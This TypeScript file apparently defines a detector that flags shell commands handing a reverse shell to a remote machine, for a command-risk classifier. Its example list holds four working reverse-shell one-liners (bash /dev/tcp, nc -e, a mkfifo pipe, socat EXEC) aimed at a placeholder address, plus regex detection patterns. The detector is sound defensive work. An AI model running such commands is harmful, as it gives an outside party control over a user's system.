// The capability of handing a shell to whoever is on the other end of a connection.

import { type SimpleCommand, textsOf } from '../../../shell/command-line.ts';
import { isShellProgram } from '../../../shell/executors.ts';
import { defineCapability } from '../../capability.ts';
import { hasOption, onlyAsks } from '../../words.ts';

const CONNECTS =
  /\b(?:socket|TCPSocket|fsockopen|pfsockopen|IO::Socket|net\.connect|net\.Socket|createConnection|TcpClient|Net::TCP|s_client|inet_tcp|\/inet\/|\/dev\/tcp|Deno\.connect|connect\(|ClientSocket|java\.net|UNIXSocket)/;
const HANDS_OVER =
  /\b(?:dup2|pty\.spawn|subprocess|exec|spawn|\/bin\/(?:ba|z|da)?sh|popen|system|shell|proc_open|Process|getline|cmd\.exe)\b/;

export const reverseShell = defineCapability({
  id: 'reverse-shell',
  title: 'gives a shell to another machine',
  rationale: 'Whoever is on the other side then does what they like as this user.',
  tier: 3,
  safer: "Log in over ssh with an account of one's own.",
  attack: ['T1059', 'T1571'],
  examples: {
    has: [
      'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
      'nc -e /bin/sh 192.0.2.1 4444',
      'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f',
      'socat TCP:192.0.2.1:4444 EXEC:/bin/sh',
    ],
    lacks: ['nc -z localhost 80', 'bash -i', 'python3 -c "print(1)"', 'echo /dev/tcp/a/1'],
  },
  detect(command) {
    if (onlyAsks(command)) return undefined;
    const { program, redirects, input } = command;
    if (redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text))) return true;
    if (
      /^(?:nc|ncat|netcat|nc\.\w+)$/.test(program) &&
      (hasOption(command, 'ec', 'exec', 'sh-exec', 'lua-exec') ||
        input.some((before) => isShellProgram(before.program)))
    )
      return true;
    if (/^(?:telnet|openssl|ncat|socat)$/.test(program) && input.some((before) => isShellProgram(before.program)))
      return true;
    if (
      isShellProgram(program) &&
      input.some((before) => /^(?:nc|ncat|netcat|telnet|socat|openssl)$/.test(before.program))
    )
      return true;
    if (program === 'socat' && textsOf(command).some((text) => /^(?:EXEC|SYSTEM):/i.test(text))) return true;
    return codeConnects(command) ? true : undefined;
  },
});

function codeConnects({ code, program, words }: SimpleCommand): boolean {
  const texts =
    code?.text === undefined
      ? /^(?:jjs|jrunscript|tclsh|julia|ksh|gdb|vim?|rvim|ruby|lua|node|php|telnet|view|rview|irb|gimp|easy_install|pip|byebug|cpan|run-mailcap)$/.test(
          program,
        )
        ? words.map((word) => word.text)
        : []
      : [code.text];
  return texts.some((text) => text.length < 20_000 && CONNECTS.test(text) && HANDS_OVER.test(text));
}
